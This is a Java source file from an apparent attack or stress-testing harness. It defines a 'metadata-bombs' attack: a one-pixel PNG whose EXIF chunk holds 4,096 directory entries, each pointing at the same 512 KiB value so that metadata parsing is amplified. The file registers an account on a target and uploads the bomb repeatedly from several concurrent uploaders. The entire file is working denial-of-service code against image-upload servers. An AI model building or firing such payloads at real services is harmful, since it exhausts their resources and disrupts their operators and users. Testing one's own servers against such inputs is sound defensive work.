package org.bongsu.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.zip.CRC32;

/** Photos of half a megabyte whose metadata points at the same bytes thousands of times. */
final class MetadataBombs implements Attack {
  private static final int UPLOADERS = 4;
  private static final int ENTRIES = 4_096;
  private static final int VALUE_BYTES = 512 << 10;

  /** The tag of XMP, in which a server looks for places. */
  private static final int XMP = 700;

  private static final int BYTE = 1;
  private static final byte[] SIGNATURE = {(byte) 137, 'P', 'N', 'G', 13, 10, 26, 10};

  @Override
  public String name() {
    return "metadata-bombs";
  }

  @Override
  public String what() {
    return "photos with %,d metadata entries that all point at the same %,d KiB"
        .formatted(ENTRIES, VALUE_BYTES >> 10);
  }

  @Override
  public Assault prepare(Target target) throws IOException, InterruptedException {
    Target.Account attacker = target.register("photographer");
    byte[] bomb = png();
    return new RepeatedRequests(
        target, UPLOADERS, Duration.ofMillis(20), i -> Target.upload(attacker, "image/png", bomb));
  }

  /** A picture of one pixel with an {@code eXIf} chunk. */
  private static byte[] png() {
    ByteArrayOutputStream png = new ByteArrayOutputStream();
    png.writeBytes(SIGNATURE);
    ByteBuffer header = ByteBuffer.allocate(13).putInt(1).putInt(1).put((byte) 8);
    chunk(png, "IHDR", header.array());
    chunk(png, "eXIf", exif());
    chunk(png, "IDAT", new byte[] {0x78, (byte) 0x9c, 0x63, 0, 0, 0, 2, 0, 1});
    chunk(png, "IEND", new byte[0]);
    return png.toByteArray();
  }

  private static byte[] exif() {
    int directoryBytes = 2 + ENTRIES * 12 + 4;
    int value = 8 + directoryBytes;
    ByteBuffer exif = ByteBuffer.allocate(value + VALUE_BYTES).order(ByteOrder.LITTLE_ENDIAN);
    exif.put((byte) 'I').put((byte) 'I').putShort((short) 42).putInt(8);
    exif.putShort((short) ENTRIES);
    for (int i = 0; i < ENTRIES; i++) {
      exif.putShort((short) XMP).putShort((short) BYTE);
      exif.putInt(VALUE_BYTES).putInt(value);
    }
    return exif.array();
  }

  private static void chunk(ByteArrayOutputStream png, String type, byte[] data) {
    byte[] name = type.getBytes(StandardCharsets.US_ASCII);
    CRC32 crc = new CRC32();
    crc.update(name);
    crc.update(data);
    png.writeBytes(ByteBuffer.allocate(4).putInt(data.length).array());
    png.writeBytes(name);
    png.writeBytes(data);
    png.writeBytes(ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
  }
}
